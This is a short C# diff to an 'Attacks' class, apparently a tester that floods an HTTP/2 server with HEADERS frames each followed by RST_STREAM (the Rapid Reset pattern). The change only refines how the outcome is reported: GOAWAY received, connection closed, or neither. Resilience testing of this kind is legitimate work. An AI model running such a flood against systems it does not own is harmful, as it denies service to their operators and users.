@@ -92,6 +92,7 @@ public static class Attacks
             });
 
             var sent = 0;
+            var closed = false;
             try
             {
                 await tls.WriteAsync(Encoding.ASCII.GetBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), stop.Token);
@@ -105,12 +106,16 @@ public static class Attacks
                     await tls.WriteAsync((byte[])[.. Frame(0x1, 0x5, stream, block), .. Frame(0x3, 0, stream, rst)], stop.Token);
                 }
             }
-            catch (Exception e) when (e is IOException or OperationCanceledException)
+            catch (IOException)
+            {
+                closed = true;
+            }
+            catch (OperationCanceledException)
             {
             }
 
             await Task.WhenAny(reader, Task.Delay(2000));
-            return $"{goAway ?? "no GOAWAY"} after {sent:N0} streams";
+            return $"{goAway ?? (closed ? "closed without GOAWAY" : "no GOAWAY")} after {sent:N0} streams";
         }
     }
 
